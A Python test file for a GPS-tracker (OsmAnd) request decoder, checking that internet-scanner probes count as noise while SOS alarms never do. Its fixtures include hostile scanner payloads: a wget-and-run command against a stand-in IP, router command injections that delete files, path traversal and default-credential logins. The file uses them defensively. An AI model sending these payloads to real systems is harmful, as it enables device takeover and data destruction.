"""Scanners' requests are noise; what may be a telephone's never is, nor any SOS."""

import json
from dataclasses import replace
from urllib.parse import quote, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.devices.osmand import Osmand
from adapters.devices.osmand_alarms import ALARM_WORDS
from adapters.devices.osmand_noise import is_noise
from engine.ports.device import HttpRequest, ReportKind, Tear
from engine.values import Signal
from tests.adapters.devices.torn_requests import sos_requests, torn
from tests.adapters.devices.vectors import RECEIVED_AT, http_request, load

SOS_WORDS = sorted(word for word, said in ALARM_WORDS.items() if Signal.SOS in said)
SOS_REQUESTS = [r for _, wire, r in sos_requests() if wire.name == "osmand"]
# As they stand in the logs of any web server.
SCANNED = [
    ("/", "XDEBUG_SESSION_START=phpstorm"),
    ("/index.php", "lang=../../../../tmp/index1"),
    ("/boaform/admin/formLogin", "username=admin&psd=admin"),
    ("/cgi-bin/luci/;stok=/locale", "form=country&operation=write"),
    ("/shell", "cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws"),
    ("/setup.cgi", "next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"),
    ("/wp-login.php", "redirect_to=%2Fwp-admin%2F&reauth=1"),
    ("/owa/auth/logon.aspx", "url=https://192.0.2.1/ecp/"),
]
TEXTS = st.text(max_size=20)
KEYS = st.sampled_from(["q", "page", "cmd", "token", "jsonrpc", "x-y"])


def get(path: str, query: str) -> HttpRequest:
    return HttpRequest(method="GET", path=path, query=query, headers={}, body=b"")


def post(body: bytes) -> HttpRequest:
    return HttpRequest(method="POST", path="/", query="", headers={}, body=body)


def kinds(request: HttpRequest) -> set[ReportKind]:
    return {one.kind for one in Osmand().decode(request, RECEIVED_AT).reports}


@pytest.mark.parametrize(("path", "query"), SCANNED)
def test_what_scanners_ask_is_noise_and_refused(path: str, query: str) -> None:
    decoded = Osmand().decode(get(path, query), RECEIVED_AT)
    assert [one.kind for one in decoded.reports] == [ReportKind.NOISE]
    assert decoded.status == 400


@pytest.mark.parametrize(
    "body",
    [
        b'{"jsonrpc":"2.0","method":"eth_blockNumber","params":[]}',
        b"<?php echo(md5(1)); ?>",
        b"username=admin&password=admin",
    ],
)
def test_what_scanners_post_is_noise(body: bytes) -> None:
    assert kinds(post(body)) == {ReportKind.NOISE}


@pytest.mark.parametrize(
    "request_",
    [
        get("/sos", "user=heron"),
        get("/", "message=help+me"),
        get("/", "message=%2568elp"),
        get("/", "lat=1&lon=2"),
        get("/", "LAT=1"),
        get("/", "a=fetch"),
        get("/index.php", "s=/index/think/app/invokefunction&function=md5"),
        get("/", "=x"),
        get("/", "deviceIdentity=x"),
        get("/", "q=" + "x" * 9000),
        post(b'{"x":{"y":"\\u0073os"}}'),
        post(b'{"location":{"q":1}}'),
    ],
)
def test_what_may_be_a_telephones_is_shown(request_: HttpRequest) -> None:
    assert kinds(request_) == {ReportKind.UNDECODABLE}


@pytest.mark.parametrize(("path", "query"), SCANNED)
@pytest.mark.parametrize("tear", Tear)
def test_what_broke_off_is_never_noise(path: str, query: str, tear: Tear) -> None:
    request = replace(get(path, query), torn=tear, head=b"GET")
    assert ReportKind.NOISE not in kinds(request)


@pytest.mark.parametrize("vector", load("osmand"), ids=lambda one: one.name)
def test_no_captured_request_is_noise(vector: object) -> None:
    assert ReportKind.NOISE not in kinds(http_request(vector))  # type: ignore[arg-type] # ids need no type


@pytest.mark.parametrize("request_", SOS_REQUESTS)
def test_an_sos_torn_at_any_byte_is_never_noise(request_: HttpRequest) -> None:
    for piece in torn(request_):
        assert ReportKind.NOISE not in kinds(piece)


@given(
    word=st.sampled_from(SOS_WORDS),
    others=st.lists(st.tuples(KEYS, TEXTS), max_size=4),
    form=st.sampled_from(["query", "body", "flat", "nested", "extras", "rows"]),
    quoted=st.booleans(),
)
def test_an_sos_in_any_form_is_one_whatever_else_is_said_and_by_whom(
    *, word: str, others: list[tuple[str, str]], form: str, quoted: bool
) -> None:
    plain = dict(others)
    said = urlencode([*others, ("alarm", word)], errors="replace")
    if quoted:
        said = said.replace("alarm", "".join(f"%{ord(one):02x}" for one in "alarm"))
    bodies: dict[str, object] = {
        "flat": plain | {"alarm": word},
        "nested": plain | {"location": {"coords": {}, "alarm": word}},
        "extras": plain | {"location": {"extras": {"alarm": word}}},
        "rows": [plain, plain | {"alarm": [word]}],
    }
    match form:
        case "query":
            request = get("/" + quote(word), said)
        case "body":
            request = post(said.encode())
        case _:
            request = post(json.dumps(bodies[form]).encode())
    decoded = Osmand().decode(request, RECEIVED_AT)
    assert any(Signal.SOS in one.signals for one in decoded.reports)
    assert ReportKind.NOISE not in {one.kind for one in decoded.reports}


@given(st.binary(max_size=40), st.lists(TEXTS), st.sampled_from(SOS_WORDS))
def test_a_word_of_distress_anywhere_is_no_noise(
    around: bytes, keys: list[str], word: str
) -> None:
    said = around + b"&" + word.upper().encode() + b"&" + around
    assert not is_noise(said, keys)
